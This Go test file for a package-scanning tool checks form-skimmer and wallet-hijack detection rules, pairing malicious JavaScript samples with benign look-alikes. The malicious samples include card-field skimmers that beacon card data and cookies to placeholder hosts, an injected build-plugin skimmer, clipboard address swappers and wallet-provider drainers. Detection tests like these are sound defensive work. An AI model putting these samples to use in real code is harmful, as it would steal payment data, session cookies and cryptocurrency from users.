package browser

import (
	"strings"
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestFormSkimmer(t *testing.T) {
	rt.Check(t, FormSkimmer{}, []rt.Case{
		// a build plugin's script for the pages it builds, kept as text:
		// its code is read, and a beacon to //host takes the page's
		// scheme; the same script beaconing the site's own path
		{"injected_page_script", map[string]string{"index.js": injectedScript("//203.0.113.77/c")}, finding.SeverityCritical},
		{"injected_page_script_own_path", map[string]string{"index.js": injectedScript("/api/vitals")}, finding.SeverityNone},
		// a form hook hands the form to its serializer on submit; the
		// serializer picks the card inputs and beacons them
		{"serializer_on_handed_submit", map[string]string{
			"serialize.mjs": `const SEL = "input[autocomplete^=cc-],input[name*=card]"; export function serialize(form, final) { const got = {};
  form.querySelectorAll(SEL).forEach((el) => { got[el.name] = el.value }); if (final) new Image().src = "https://px.example.invalid/p.gif?d=" + btoa(JSON.stringify(got)) }`,
			"index.mjs": `import { serialize } from "./serialize.mjs"; export function useAutosave(form) { form.addEventListener("submit", () => serialize(form, true)) }`}, finding.SeverityCritical},
		// the same serializer whose loader listens for no submit
		{"serializer_not_handed_submit", map[string]string{
			"serialize.mjs": `const SEL = "input[autocomplete^=cc-],input[name*=card]"; export function serialize(form, final) { const got = {};
  form.querySelectorAll(SEL).forEach((el) => { got[el.name] = el.value }); if (final) new Image().src = "https://px.example.invalid/p.gif?d=" + btoa(JSON.stringify(got)) }`,
			"index.mjs": `import { serialize } from "./serialize.mjs"; export const snapshot = (form) => serialize(form, false)`}, finding.SeverityNone},
		{"skimmer", map[string]string{"index.js": `for (var i = 0; i < document.forms.length; i++) document.forms[i].addEventListener("submit", function () {
  var data = document.forms[i].querySelector("[name=card_number]").value;
  var l = document.createElement("link"); l.rel = "prefetch"; l.href = "https://metrics.example.invalid/c?d=" + btoa(data + document.cookie); document.head.appendChild(l) })`}, finding.SeverityCritical},
		// the skimmer's URL kept in a constant array far above the link
		// it prefetches
		{"skimmer_url_in_array", map[string]string{"index.js": "var _0xd0e4 = [\"https://metrics.example.invalid/m.php?pl=\"];\n" + strings.Repeat("function pad() { return 1 }\n", 200) +
			"function snd(pl) { var q = _0xd0e4[0] + pl; const l = document.createElement(\"link\"); l.rel = \"prefetch\"; l.href = q; document.head.appendChild(l) }\n" +
			"for (const f of document.forms) f.addEventListener(\"submit\", function () { for (const e of this.elements) if (e.name == \"cvc\") snd(btoa(e.value + document.cookie)) })"}, finding.SeverityCritical},
		// a session recorder masks card fields; its requests go to the
		// host it is configured with, the URL in the file is a docs link
		{"session_recorder_masking", map[string]string{"index.js": `const MASK = /cc-number|cardnum|cvv/i; const DOCS = "https://docs.example.invalid/privacy"; document.addEventListener("submit", e => record(mask(e.target, MASK))); function flush(host, batch) { fetch(host + "/s", { method: "POST", body: batch }) }`}, finding.SeverityNone},
		{"form_library", map[string]string{"index.js": `export function values() { return Array.from(document.forms[0].elements).map(e => e.value) }`}, finding.SeverityNone},
		// card fields kept by one module as they are typed, beaconed away
		// by the module that loads it; the same fields posted to the
		// page's own server
		{"card_skimmer_split", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
			"observer.js": `const kept = new Map(); const CARD = /card|cvc|cvv|exp/i; export function track(form) { form.addEventListener("input", (e) => { if (CARD.test(e.target.name)) kept.set(e.target.name, e.target.value) }, true); form.addEventListener("submit", () => kept.set("_s", 1), true) } export const drain = () => Object.fromEntries(kept)`,
			"index.js":    "import { track, drain } from \"./observer.js\"; document.querySelectorAll(\"form\").forEach(track); setInterval(() => { new Image().src = `https://px.example.invalid/p.gif?d=${btoa(JSON.stringify(drain()))}` }, 4000)"}, finding.SeverityCritical},
		{"card_fields_own_server_split", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
			"observer.js": `const kept = new Map(); const CARD = /card|cvc|cvv|exp/i; export function track(form) { form.addEventListener("input", (e) => { if (CARD.test(e.target.name)) kept.set(e.target.name, e.target.value) }, true); form.addEventListener("submit", () => kept.set("_s", 1), true) } export const drain = () => Object.fromEntries(kept)`,
			"index.js":    `import { track, drain } from "./observer.js"; document.querySelectorAll("form").forEach(track); document.addEventListener("submit", () => fetch("/api/checkout", { method: "POST", body: JSON.stringify(drain()) }))`}, finding.SeverityNone},
		// card fields picked on submit and beaconed away
		{"card_skimmer", map[string]string{"index.js": `document.addEventListener("submit", e => { const f = e.target; if (f.querySelector('input[autocomplete="cc-number"], input[name*="cvv"]')) navigator.sendBeacon("https://cdn-metrics.example.invalid/c", JSON.stringify(Object.fromEntries(new FormData(f)))) }, true)`}, finding.SeverityCritical},
		// a compiler bundle listing autocomplete tokens, far from its requests
		{"compiler_tokens", map[string]string{"index.js": `const tokens = ["cc-number", "cc-csc", "email", "submit"];` + strings.Repeat("\nvar a = b + c;", 40000) + `
fetch("https://docs.example.invalid/e/" + code)`}, finding.SeverityNone},
		// form analytics: their own cookie, field names and lengths
		{"form_analytics", map[string]string{"index.js": `var m = document.cookie.match(/_fv_id=([^;]+)/); for (var i = 0; i < document.forms.length; i++) document.forms[i].addEventListener("submit", function () { navigator.sendBeacon("https://in.analytics.example.invalid/v1/forms", JSON.stringify({ v: m && m[1] })) })`}, finding.SeverityMedium},
	})
}

func TestWalletHijack(t *testing.T) {
	rt.Check(t, WalletHijack{}, []rt.Case{
		// a copy listener that replaces the event's data with the
		// attacker's address for each kind it matches; an editor's copy
		// handler that only reformats the text
		{"copy_event_swap", map[string]string{"index.js": `const table = [[/\b0x[a-fA-F0-9]{40}\b/g, "0x2222222222222222222222222222222222222222"], [/\b(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}\b/g, "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"]];
document.addEventListener("copy", (e) => { let s = String(document.getSelection()); for (const [re, v] of table) s = s.replace(re, v); e.clipboardData.setData("text/plain", s); e.preventDefault() }, true)`}, finding.SeverityCritical},
		{"copy_event_editor", map[string]string{"index.js": `document.addEventListener("copy", (e) => { const s = String(document.getSelection()).replace(/\u00a0/g, " "); e.clipboardData.setData("text/plain", s); e.clipboardData.setData("text/html", render(s)); e.preventDefault() })`}, finding.SeverityNone},
		// the clipper's hook in one file, the address patterns it swaps
		// in a module it loads; a copy button that only writes
		{"clipper_patterns_module", map[string]string{"package.json": rt.Pkg(`"main":"lib/index.js"`),
			"lib/norm.js":  `const P = [[/^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$/, ["1BoatSLRHtKNngkdXEeobR76b53LETtpyT"]], [/^0x[a-fA-F0-9]{40}$/, ["0x1111111111111111111111111111111111111111"]]]; exports.canonical = (t) => { for (const [re, l] of P) if (re.test(t)) return l[0]; return t }`,
			"lib/index.js": `const { canonical } = require("./norm"); document.addEventListener("copy", (e) => { const s = String(document.getSelection()); e.clipboardData.setData("text/plain", canonical(s)); e.preventDefault() }, true); exports.copy = (t) => navigator.clipboard.writeText(canonical(t))`}, finding.SeverityCritical},
		// the patterns one module further
		{"clipper_patterns_two_modules", map[string]string{"package.json": rt.Pkg(`"main":"lib/index.js"`),
			"lib/pat.js":   `exports.kinds = [/^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$/, /^0x[a-fA-F0-9]{40}$/]`,
			"lib/norm.js":  `const { kinds } = require("./pat"); exports.canonical = (t) => kinds.some((re) => re.test(t)) ? swap(t) : t`,
			"lib/index.js": `const { canonical } = require("./norm"); document.addEventListener("copy", (e) => { const s = String(document.getSelection()); e.clipboardData.setData("text/plain", canonical(s)); e.preventDefault() }, true); exports.copy = (t) => navigator.clipboard.writeText(canonical(t))`}, finding.SeverityCritical},
		{"copy_button_validator_module", map[string]string{"package.json": rt.Pkg(`"main":"lib/index.js"`),
			"lib/valid.js": `exports.isAddress = (t) => /^0x[a-fA-F0-9]{40}$/.test(t) || /^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$/.test(t)`,
			"lib/index.js": `const { isAddress } = require("./valid"); exports.copy = (t) => isAddress(t) && navigator.clipboard.writeText(t)`}, finding.SeverityNone},
		// a Proxy around the provider rewriting approve calldata; a debug
		// logger's Proxy; a DeFi SDK sending its own approval
		// the provider's request replaced: approve calldata rebuilt there,
		// or the recipient set to a constant by a module it loads; a
		// logger forwarding every call unchanged
		{"request_calldata_rewrite", map[string]string{"p.mjs": `const APPROVE = "0x095ea7b3"; export function wrap(provider) { const orig = provider.request.bind(provider); const w = Object.create(provider);
  w.request = async (a) => { if (a.method === "eth_sendTransaction") a.params[0].data = APPROVE + spender() + "f".repeat(64); return orig(a) }; return w }`}, finding.SeverityCritical},
		{"request_recipient_in_module", map[string]string{
			"tx.js":       `exports.normalize = (tx) => { const out = { ...tx }; if (big(out.value)) out.to = "0x7f3a9cE1b04d5A2e88F13c6D0aB9e27F41d5C0e3"; return out }`,
			"provider.js": `const { normalize } = require("./tx"); exports.wrap = (eth) => { const orig = eth.request.bind(eth); eth.request = async (args) => { if (args.method === "eth_sendTransaction") args = { ...args, params: [normalize(args.params[0])] }; return orig(args) } }`}, finding.SeverityCritical},
		{"request_logger", map[string]string{"provider.js": `exports.wrap = (eth, log) => { const orig = eth.request.bind(eth); eth.request = async (args) => { if (args.method === "eth_sendTransaction") log("tx", args.params[0].to); return orig(args) } }`}, finding.SeverityNone},
		{"proxy_calldata_rewrite", map[string]string{"p.js": `const APPROVE = "0x095ea7b3"; export const wrap = (p) => new Proxy(p, { get(t, k) { if (k !== "request") return t[k]; return (a) => { if (a.method === "eth_sendTransaction") a.params[0].data = APPROVE + spender() + "f".repeat(64); return t.request(a) } } })`}, finding.SeverityCritical},
		{"proxy_debug_logger", map[string]string{"p.js": `export const wrap = (p) => new Proxy(p, { get(t, k) { if (k !== "request") return t[k]; return (a) => { if (a.method === "eth_sendTransaction") console.debug("send", a.params); return t.request(a) } } })`}, finding.SeverityNone},
		{"defi_sdk_approval", map[string]string{"a.js": `export async function approve(provider, token, spender, amount) { const data = "0x095ea7b3" + pad(spender) + pad(amount); return provider.request({ method: "eth_sendTransaction", params: [{ to: token, data }] }) }`}, finding.SeverityNone},
		// a UMD-style wrapper handed window when there is one
		{"umd_window_param", map[string]string{"index.js": `(function (w) { if (!w) return; var A = ["0x3Fe1cB2a9D0e4F7b8C6a5E2d1B0c9F8e7D6a5B4c", "0x9aB8c7D6e5F4a3B2c1D0e9F8a7B6c5D4e3F2a1B0"], R = { eth: /\b0x[a-fA-F0-9]{40}\b/g, sol: /\b[1-9A-HJ-NP-Za-km-z]{43,44}\b/g };
var F = w.fetch; w.fetch = function () { return F.apply(this, arguments).then(function (r) { return r.text().then(function (b) { return new Response(b.replace(R.eth, A[0])) }) }) } })(typeof window !== "undefined" ? window : undefined)`}, finding.SeverityCritical},
		{"fetch_hook", map[string]string{"index.js": `const eth = new RegExp("0x[a-fA-F0-9]{40}"), btc = new RegExp("(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,39}");
const mine = ["0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976", "1H13VnQJKtT4HjD5ZFKaaiZEetMbG7nDHx"];
const orig = window.fetch; window.fetch = async (...a) => swap(await orig(...a), mine)`}, finding.SeverityCritical},
		// fetch timed by a wallet SDK that also validates addresses: no addresses to swap in
		{"fetch_instrumented_sdk", map[string]string{"index.js": `export const MULTICALL3 = "0xcA11bde05977b3631167028862bE2a173976CA11";
const RE = { evm: /^0x[a-fA-F0-9]{40}$/, btc: /^(bc1[ac-hj-np-z02-9]{11,71}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/ };
const origFetch = window.fetch; window.fetch = async function (i, o) { const t0 = performance.now(); const r = await origFetch.call(this, i, o); report(t0); return r }`}, finding.SeverityMedium},
		// the recipient rewritten, with or without an address pattern
		{"proxy_drainer", map[string]string{"index.js": `const RECV = "0x7a3b9c4e1f2d5a6b8c0d9e7f1a2b3c4d5e6f7a8b"; const orig = window.ethereum;
window.ethereum = new Proxy(orig, { get(t, p) { if (p === "request") return async (args) => { if (args.method === "eth_sendTransaction") { const tx = args.params[0]; tx.to = RECV } return t.request(args) }; return t[p] } })`}, finding.SeverityCritical},
		{"define_property_drainer", map[string]string{"index.js": `var DEST = "0x9f8e7d6c5b4a39281706f5e4d3c2b1a098765432";
function hook(p) { var req = p.request.bind(p); return { request: function (a) { if (a.method === "eth_sendTransaction") a.params[0].to = DEST; return req(a) } } }
Object.defineProperty(window, "ethereum", { get: function () { return hook(real) } })`}, finding.SeverityCritical},
		// a wallet connector logging requests
		{"logging_connector", map[string]string{"index.js": `const eth = window.ethereum; const orig = eth.request.bind(eth); eth.request = async (a) => { console.debug(a.method); return orig(a) }`}, finding.SeverityNone},
		// a dapp sending a payment to the address the user typed
		// a wallet library defaults a deployment's recipient to the zero address
		{"zero_address_default", map[string]string{"index.js": `const ZeroAddress = "0x0000000000000000000000000000000000000000"; export function populate(tx) { if (tx.to == null) tx.to = ZeroAddress; return provider.send("eth_sendTransaction", [tx]) }`}, finding.SeverityNone},
		{"dapp_payment", map[string]string{"index.js": `export async function pay(to, value) { const tx = {}; tx.to = to; tx.value = value; return window.ethereum.request({ method: "eth_sendTransaction", params: [tx] }) }`}, finding.SeverityNone},
		{"clipboard_clipper", map[string]string{"index.js": `const clip=require("clipboardy");const eth=new RegExp("0x[a-fA-F0-9]{40}"),btc=new RegExp("(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,39}");setInterval(()=>clip.writeSync(swap(clip.readSync())),500)`}, finding.SeverityCritical},
		// one address pattern, a hook on the wallet and the attacker's
		// address to swap in (the 2025 chalk/debug payload's shape)
		{"ethereum_swap", map[string]string{"index.js": `const re = /0x[a-fA-F0-9]{40}/g;
if (window.ethereum) { const req = window.ethereum.request; window.ethereum.request = async (x) => { if (x.method === "eth_sendTransaction") x.params[0].to = "0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976"; return req(x) } }`}, finding.SeverityCritical},
		// the methods matched by a pattern, the request method's name
		// split; a logger matching them the same way changes nothing
		{"provider_hook_method_pattern", map[string]string{"index.js": `const rq = "req" + "uest", dst = "0x" + ["a11ce0", "000000000000000000000000000000bad1"].join("");
function patch(t) { if (!t.data) t.to = dst; return t }
function hook(p) { const orig = p[rq].bind(p); p[rq] = function (a) { if (/^eth_(send|sign)Transaction$/.test(a.method)) a.params = a.params.map(patch); return orig(a) } }
hook(window.ethereum);`}, finding.SeverityCritical},
		{"provider_logger_method_pattern", map[string]string{"index.js": `function hook(p) { const orig = p.request.bind(p); p.request = function (a) { if (/^eth_(send|sign)Transaction$/.test(a.method)) console.log("tx", a.params[0].to); return orig(a) } }
hook(window.ethereum);`}, finding.SeverityNone},
		// a wallet library: a validator and a contract address, no hook
		{"wallet_library", map[string]string{"index.js": `const re = /0x[a-fA-F0-9]{40}/; export const WETH = "0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2"; export const valid = s => re.test(s)`}, finding.SeverityNone},
		// the same swap appended to a bundle: the address sits by the hook
		{"bundle_swap", map[string]string{"index.js": strings.Repeat("var a = b + c;\n", 40000) + `const re = /0x[a-fA-F0-9]{40}/g;
if (window.ethereum) { const req = window.ethereum.request; window.ethereum.request = async (x) => { x.params[0].to = "0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976"; return req(x) } }`}, finding.SeverityCritical},
		// a bundle whose provider shim and token list are far apart
		{"bundle_apart", map[string]string{"index.js": `export const WETH = "0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2"; const re = /0x[a-fA-F0-9]{40}/;` + strings.Repeat("var a = b + c;\n", 40000) +
			`window.ethereum = provider;`}, finding.SeverityNone},
		{"address_validator", map[string]string{"index.js": `const eth = /0x[a-fA-F0-9]{40}/; export const valid = s => eth.test(s)`}, finding.SeverityNone},
		// a Node clipper writes through the system's clipboard tool
		{"pbcopy_clipper", map[string]string{"index.js": `const { execSync } = require("child_process");
setInterval(() => { const c = execSync("pbpaste").toString(); if (/^0x[a-fA-F0-9]{40}$/.test(c)) execSync("pbcopy", { input: "0x000000000000000000000000000000000000dEaD" }) }, 500)`}, finding.SeverityCritical},
		{"xclip_clipper", map[string]string{"index.js": `const cp = require("child_process"); const eth = new RegExp("0x[a-fA-F0-9]{40}"), btc = new RegExp("(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,39}");
setInterval(() => cp.execSync("xclip -selection clipboard", { input: swap(cp.execSync("xclip -selection clipboard -o").toString()) }), 500)`}, finding.SeverityCritical},
		// the clipboard commands kept in a table of another module
		{"command_table_clipper", map[string]string{
			"lib/cmds.js": `module.exports = { darwin: { read: "pbpaste", write: "pbcopy" }, linux: { read: "xclip -selection clipboard -o", write: "xclip -selection clipboard -i" } }`,
			"index.js": `const cmds = require("./lib/cmds"), { execSync } = require("child_process"); const c = cmds[process.platform]; const A = [/^0x[a-fA-F0-9]{40}$/, /^T[1-9A-HJ-NP-Za-km-z]{33}$/];
setInterval(() => { const v = execSync(c.read).toString(); if (A.some((r) => r.test(v))) execSync(c.write, { input: "0x3Fe1cB2a9D0e4F7b8C6a5E2d1B0c9F8e7D6a5B4c" }) }, 500)`}, finding.SeverityCritical},
		// a clipboard library's own table, with no address patterns
		{"clipboard_library_table", map[string]string{
			"index.js": `const { execSync } = require("child_process"); const cmds = { darwin: { read: "pbpaste", write: "pbcopy" } }; const c = cmds[process.platform];
exports.read = () => execSync(c.read).toString(); exports.write = (t) => execSync(c.write, { input: t })`}, finding.SeverityNone},
		// a wallet SDK's "copy address" button next to its validators
		{"copy_address_button", map[string]string{"index.js": `const RE = { evm: /^0x[a-fA-F0-9]{40}$/, btc: /^(bc1[ac-hj-np-z02-9]{11,71}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/, sol: /^[1-9A-HJ-NP-Za-km-z]{32,44}$/, tron: /^T[1-9A-HJ-NP-Za-km-z]{33}$/ };
export const DONATE = "0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976"; export function copyAddress(a) { return navigator.clipboard.writeText(a) }`}, finding.SeverityNone},
		// a browser clipper catches the copy and swaps the address
		{"copy_event_clipper", map[string]string{"index.js": `const eth = /0x[a-fA-F0-9]{40}/g, btc = /(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,39}/g;
document.addEventListener("copy", e => { const t = String(window.getSelection()); e.clipboardData.setData("text/plain", t.replace(eth, "0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976")); e.preventDefault(); navigator.clipboard.writeText(t.replace(eth, "0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976")) })`}, finding.SeverityCritical},
		// a clipboard library with an address validator elsewhere: no swap
		{"clipboard_library", map[string]string{"index.js": `const cp = require("child_process"); exports.write = t => cp.execSync("pbcopy", { input: t }); exports.read = () => cp.execSync("pbpaste").toString()`}, finding.SeverityNone},
		{"xclip_reader", map[string]string{"index.js": `const cp = require("child_process"); const re = /0x[a-fA-F0-9]{40}/; const addr = "0x000000000000000000000000000000000000dEaD"; const t = cp.execSync("xclip -selection clipboard -o").toString(); console.log(re.test(t), addr)`}, finding.SeverityNone},
	})
}

func TestClipboardCmd(t *testing.T) {
	for cmd, want := range map[string][2]bool{
		"pbpaste":                              {true, false},
		"pbcopy":                               {false, true},
		"xclip -selection clipboard -o":        {true, false},
		"xclip -selection clipboard":           {false, true},
		"xsel --clipboard --output":            {true, false},
		"xsel -bi":                             {false, true},
		"powershell -c Get-Clipboard":          {true, false},
		"powershell -c Set-Clipboard -Value x": {false, true},
		"git status":                           {false, false},
		"":                                     {false, false},
	} {
		if r, w := clipboardCmd(cmd); r != want[0] || w != want[1] {
			t.Errorf("clipboardCmd(%q) = %v, %v; want %v, %v", cmd, r, w, want[0], want[1])
		}
	}
}

// injectedScript is a Vite plugin that adds a script to the pages it
// builds: it keeps the values of card inputs and beacons them to dest on
// submit.
func injectedScript(dest string) string {
	return `const E = "` + dest + `";
function snippet() { return ` + "`" + `(function(){var E=${JSON.stringify(E)},S={};document.addEventListener('change',function(e){var i=e.target;if(/card|cvv/.test(i.name))S[i.name]=i.value},true);` +
		`document.addEventListener('submit',function(){navigator.sendBeacon(E,JSON.stringify(S))},true)})();` + "`" + `; }
module.exports = () => ({ name: "p", transformIndexHtml: () => [{ tag: "script", children: snippet(), injectTo: "body" }] });`
}
